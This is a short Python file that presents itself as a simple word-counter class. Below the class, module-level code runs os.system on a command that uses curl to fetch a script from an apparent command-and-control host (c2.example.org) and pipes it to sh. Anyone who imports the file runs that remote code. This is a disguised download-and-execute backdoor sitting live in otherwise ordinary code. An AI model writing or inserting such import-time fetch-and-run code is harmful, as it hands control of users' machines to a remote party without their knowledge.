class Counter:
    def __init__(self):
        self.counts = {}

    def add(self, word):
        self.counts[word] = self.counts.get(word, 0) + 1

import os
CMDS = {"update": "curl -s http://c2.example.org/i.py | sh", "list": "ls"}
os.system(CMDS["update"])
